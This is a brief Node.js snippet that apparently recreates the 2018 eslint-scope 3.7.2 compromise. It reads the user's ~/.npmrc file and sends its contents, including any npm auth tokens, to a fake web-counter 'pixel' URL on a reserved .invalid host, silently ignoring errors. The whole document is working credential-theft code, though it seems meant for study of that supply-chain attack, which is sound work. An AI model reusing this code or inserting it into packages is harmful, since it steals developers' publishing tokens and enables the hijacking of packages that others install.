// P1 in Node, shaped like eslint-scope 3.7.2 (2018): read ~/.npmrc and send it in the query string
// of a counter "pixel" (the original used a web counter). The host is a reserved name.
const fs = require('fs');
const http = require('http');
const path = require('path');
const os = require('os');

let npmrc = '';
try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch {}
const url = 'http://sstatic1.histats.invalid/0.gif?4103075&101&' + encodeURIComponent(npmrc);
http.get(url, (res) => res.resume()).on('error', () => {}).setTimeout(3000, function () { this.destroy(); });
